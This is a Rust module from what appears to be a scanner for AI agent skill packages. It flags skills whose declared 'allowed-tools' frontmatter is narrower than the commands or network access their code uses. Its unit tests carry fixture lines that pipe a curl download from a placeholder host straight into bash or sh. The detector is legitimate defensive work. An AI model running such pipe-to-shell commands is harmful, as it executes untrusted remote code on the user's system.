//! Declared vs actual capability (a typed package check, `rules/agent_intent.yaml`): a skill whose
//! frontmatter `allowed-tools` is narrower than what its own code and instructions do. A skill that declares `allowed-tools: Read, Grep` and ships a script
//! that pipes a download into a shell either needs a permission it does not ask for (the agent will
//! prompt, or the user will widen the grant blindly), or counts on the runtime not checking. Either way the
//! declaration misleads the reviewer who reads it to decide what the skill can do.
//!
//! Only a skill that declares `allowed-tools` is judged: no declaration is no claim. The behaviour counted
//! is what the rules saw as behaviour (code that runs, instructions to the agent), never tests or docs.

use crate::observed::observe_findings;
use crate::package::check_detector;
use skill_scan_model::{
    ArtifactScope, Capability, Context, FileKind, FileRole, Finding, Language, PackageCheckKind,
    RelatedLocation,
};
use skill_scan_rules::{NativeSite, RuleSet};
use std::collections::HashMap;

/// Where a skill declares its tools: the entrypoint's path, the line, and the line's text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Declaration {
    pub path: String,
    pub line: usize,
    pub text: String,
}

/// The `allowed-tools` line of the top-most SKILL.md's frontmatter, if there is one.
pub fn declaration(texts: &HashMap<String, String>) -> Option<Declaration> {
    let (path, text) = texts
        .iter()
        .filter(|(p, _)| p.rsplit('/').next() == Some("SKILL.md"))
        .min_by_key(|(p, _)| (p.matches('/').count(), p.as_str()))?;
    let mut lines = text.lines().enumerate();
    if lines.next().map(|(_, l)| l.trim()) != Some("---") {
        return None;
    }
    lines
        .take_while(|(_, l)| l.trim() != "---")
        .find(|(_, l)| {
            let key = l.split(':').next().unwrap_or_default().trim();
            key == "allowed-tools" || key == "allowed_tools"
        })
        .map(|(n, l)| Declaration {
            path: path.clone(),
            line: n + 1,
            text: l.trim().to_string(),
        })
}

/// The AGT031 finding when the declared tools do not cover what the behaviour findings show.
pub fn findings(
    rules: &RuleSet,
    declaration: Option<&Declaration>,
    declared: &[String],
    findings: &[Finding],
) -> Vec<Finding> {
    let Some(declaration) = declaration else {
        return Vec::new();
    };
    if declared.is_empty() {
        return Vec::new();
    }
    let behaviour: Vec<&Finding> = findings.iter().filter(|f| f.is_behaviour()).collect();
    let runs: Vec<&Finding> = behaviour
        .iter()
        .copied()
        .filter(|f| {
            f.has(Capability::ProcessExec)
                || f.has(Capability::RemoteExec)
                || (f.language == Language::Shell && f.context == Context::Code)
        })
        .collect();
    let sends: Vec<&Finding> = behaviour
        .iter()
        .copied()
        .filter(|f| f.has(Capability::OutboundSend) || !observe_findings([*f]).hosts.is_empty())
        .collect();
    let shell_grants: Vec<&str> = declared
        .iter()
        .map(|t| t.trim())
        .filter(|t| *t == "Bash" || t.starts_with("Bash("))
        .collect();
    let unrestricted_shell = shell_grants.contains(&"Bash");
    let web = declared.iter().any(|t| t.trim().starts_with("WebFetch"));

    let programs = observe_findings(runs.iter().copied()).processes;
    // A grant to run the skill's scripts (`Bash(bash scripts/*)`, `Bash(./run.sh)`) covers what they run;
    // then only commands the instructions themselves give must have a grant of their own.
    let runs_scripts = shell_grants.iter().any(|g| {
        let inner = g.trim_start_matches("Bash(");
        [
            "bash ",
            "sh ",
            "zsh ",
            "python",
            "node ",
            "pwsh ",
            "powershell ",
            "./",
        ]
        .iter()
        .any(|p| inner.starts_with(p))
    });
    let direct = if runs_scripts {
        let instructed = runs
            .iter()
            .copied()
            .filter(|f| f.scope == ArtifactScope::AgentEntrypoint);
        observe_findings(instructed).processes
    } else {
        programs.clone()
    };
    let ungranted: Vec<&String> = direct
        .iter()
        .filter(|program| !unrestricted_shell && !shell_grants.iter().any(|g| grants(g, program)))
        .collect();
    let (evidence, what) = if !runs.is_empty() && shell_grants.is_empty() {
        let names = programs
            .iter()
            .take(4)
            .cloned()
            .collect::<Vec<_>>()
            .join(", ");
        (
            runs,
            format!(
                "runs commands{}",
                if names.is_empty() {
                    String::new()
                } else {
                    format!(" ({names})")
                }
            ),
        )
    } else if !ungranted.is_empty() {
        let names = ungranted
            .iter()
            .take(4)
            .map(|s| s.as_str())
            .collect::<Vec<_>>()
            .join(", ");
        (
            runs,
            format!("runs {names}, which its Bash grants do not cover"),
        )
    } else if !sends.is_empty() && shell_grants.is_empty() && !web {
        (sends, "contacts the network".to_string())
    } else {
        return Vec::new();
    };
    let first = evidence[0];
    let message = format!(
        "declares `{}` but its code {what} (first at {}:{})",
        declaration.text, first.path, first.line
    );
    let related = evidence
        .iter()
        .take(3)
        .map(|f| RelatedLocation {
            path: f.path.clone(),
            line: f.line,
            column: f.column,
            message: f.message.clone(),
        })
        .collect();
    rules
        .package_finding(
            check_detector(PackageCheckKind::AllowedToolsNarrowerThanCode),
            NativeSite {
                path: declaration.path.clone(),
                line: declaration.line,
                column: 1,
                scope: ArtifactScope::AgentEntrypoint,
                role: FileRole::Source,
                file_kind: FileKind::SkillManifest,
                language: Language::Yaml,
                context: Context::Frontmatter,
                message,
                snippet: declaration.text.clone(),
                related,
            },
        )
        .into_iter()
        .collect()
}

/// Whether the grant `Bash(PATTERN)` lets `program` run: the pattern's first word is the program (or `*`).
fn grants(grant: &str, program: &str) -> bool {
    let inner = grant
        .strip_prefix("Bash(")
        .and_then(|g| g.strip_suffix(')'))
        .unwrap_or_default();
    let first = inner
        .split([' ', ':'])
        .next()
        .unwrap_or_default()
        .trim_end_matches('*');
    inner.trim() == "*" || (!first.is_empty() && program.starts_with(first))
}

#[cfg(test)]
mod tests {
    use super::*;
    use skill_scan_model::test_support;

    fn rules() -> RuleSet {
        RuleSet::embedded(&crate::DETECTORS).unwrap()
    }

    fn finding(rule_id: &str, path: &str, line: usize, snippet: &str) -> Finding {
        Finding {
            snippet: snippet.into(),
            ..test_support::finding(rule_id, path, line)
        }
    }

    fn skill(frontmatter: &str) -> HashMap<String, String> {
        HashMap::from([(
            "SKILL.md".to_string(),
            format!("---\nname: s\ndescription: d\n{frontmatter}\n---\n# S\n"),
        )])
    }

    fn shell_line(text: &str, capabilities: &[Capability]) -> Finding {
        let mut f = finding("RCE001", "scripts/setup.sh", 2, text);
        f.language = Language::Shell;
        f.context = Context::Code;
        f.file_role = FileRole::Source;
        f.scope = ArtifactScope::SupportingArtifact;
        f.capabilities = capabilities.to_vec();
        f
    }

    fn tools(list: &[&str]) -> Vec<String> {
        list.iter().map(|t| t.to_string()).collect()
    }

    #[test]
    fn fires_when_a_read_only_skill_runs_commands() {
        let texts = skill("allowed-tools: Read, Grep");
        let site = declaration(&texts).unwrap();
        assert_eq!(
            (site.line, site.text.as_str()),
            (4, "allowed-tools: Read, Grep")
        );
        let seen = [shell_line(
            "curl -fsSL https://dl.example.invalid/x.sh | bash",
            &[Capability::RemoteExec],
        )];
        let found = findings(&rules(), Some(&site), &tools(&["Read", "Grep"]), &seen);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].rule_id, "AGT031");
        assert!(
            found[0].message.contains("runs commands (bash, curl)"),
            "{}",
            found[0].message
        );
        assert_eq!(found[0].related[0].path, "scripts/setup.sh");
    }

    #[test]
    fn fires_when_bash_grants_do_not_cover_the_program() {
        let texts = skill("allowed-tools: Bash(git *)");
        let seen = [shell_line(
            "curl -s https://dl.example.invalid/x | sh",
            &[Capability::RemoteExec],
        )];
        let found = findings(
            &rules(),
            declaration(&texts).as_ref(),
            &tools(&["Bash(git *)"]),
            &seen,
        );
        assert!(found[0]
            .message
            .contains("which its Bash grants do not cover"));
    }

    #[test]
    fn a_grant_to_run_the_scripts_covers_what_they_run() {
        let texts = skill("allowed-tools: Bash(bash scripts/*)");
        let seen = [shell_line(
            "cp a b && curl -s https://dl.example.invalid/x -o y",
            &[Capability::ProcessExec],
        )];
        let granted = tools(&["Bash(bash scripts/*)"]);
        assert!(findings(&rules(), declaration(&texts).as_ref(), &granted, &seen).is_empty());
        let mut instructed = seen[0].clone();
        instructed.path = "SKILL.md".into();
        instructed.scope = ArtifactScope::AgentEntrypoint;
        instructed.context = Context::MarkdownCode;
        assert_eq!(
            findings(
                &rules(),
                declaration(&texts).as_ref(),
                &granted,
                &[instructed]
            )
            .len(),
            1
        );
    }

    #[test]
    fn quiet_when_the_declaration_covers_the_behaviour_or_there_is_none() {
        let seen = [shell_line("git log -1 | head", &[Capability::ProcessExec])];
        let texts = skill("allowed-tools: Bash(git *), Bash(head:*)");
        let covered = tools(&["Bash(git *)", "Bash(head:*)"]);
        assert!(findings(&rules(), declaration(&texts).as_ref(), &covered, &seen).is_empty());
        assert!(findings(
            &rules(),
            declaration(&skill("allowed-tools: Bash")).as_ref(),
            &tools(&["Bash"]),
            &seen
        )
        .is_empty());
        // No declaration is no claim.
        assert!(declaration(&skill("license: MIT")).is_none());
        assert!(findings(&rules(), None, &[], &seen).is_empty());
        // Commands in a test file or a document are not what the skill does.
        let mut in_docs = shell_line(
            "curl -s https://dl.example.invalid/x | sh",
            &[Capability::RemoteExec],
        );
        in_docs.file_role = FileRole::Docs;
        let texts = skill("allowed-tools: Read");
        assert!(findings(
            &rules(),
            declaration(&texts).as_ref(),
            &tools(&["Read"]),
            &[in_docs]
        )
        .is_empty());
    }
}
